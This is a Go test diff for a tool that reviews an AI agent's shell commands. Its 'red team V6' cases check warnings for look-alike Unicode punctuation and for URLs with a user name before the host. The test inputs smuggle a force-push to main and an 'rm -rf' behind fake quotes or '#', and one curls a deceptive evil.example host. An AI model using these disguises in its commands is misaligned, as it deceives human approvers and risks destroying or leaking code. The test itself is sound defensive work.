@@ -312,3 +312,38 @@ func TestPresentFlagsNestedRepeats(t *testing.T) {
 		t.Errorf("warnings for arguments without repeats: %q", w)
 	}
 }
+
+// TestShellPunctuationOutsideASCIIIsNamed (red team V6): a character that
+// looks like a quote, '#' or '\' is an inert letter to bash, so a command
+// that reads as one commit may push; every punctuation, symbol, space or
+// modifier letter outside ASCII in a command is named, whatever it looks
+// like, and a URL whose host follows a user name is flagged anywhere.
+func TestShellPunctuationOutsideASCIIIsNamed(t *testing.T) {
+	cases := []struct {
+		name, args, warn string
+	}{
+		{"a modifier letter apostrophe", `{"command":"git commit -qam \u02bc[wip] formatting only; git push -qf origin HEAD:main #\u02bc"}`, "U+02BC"},
+		{"a music sharp sign", `{"command":"echo ok \u266f; rm -rf x"}`, "U+266F"},
+		{"curly and full-width quotes", `{"command":"echo \u2019a; b\u2019 \uff02c\uff02"}`, "U+2019, U+FF02"},
+		{"a no-break space", `{"command":"ls\u00a0-la"}`, "U+00A0"},
+		{"Codex's cmd", `{"cmd":"echo \u2019x\u2019"}`, "U+2019"},
+		{"a URL's user before its host", `{"command":"curl https://github.com@evil.example/x"}`, "https://github.com@evil.example"},
+		{"plain ASCII", `{"command":"git commit -m 'wip' && git push"}`, ""},
+		{"letters outside ASCII are words", `{"command":"echo héllo"}`, ""},
+	}
+	for _, tt := range cases {
+		t.Run(tt.name, func(t *testing.T) {
+			v := card.Present(bash(tt.args), card.DefaultLimits)
+			got := strings.Join(v.Warnings, "\n")
+			if tt.warn == "" {
+				if got != "" {
+					t.Errorf("warned %q", got)
+				}
+				return
+			}
+			if !strings.Contains(got, tt.warn) {
+				t.Errorf("warnings %q do not name %s", got, tt.warn)
+			}
+		})
+	}
+}
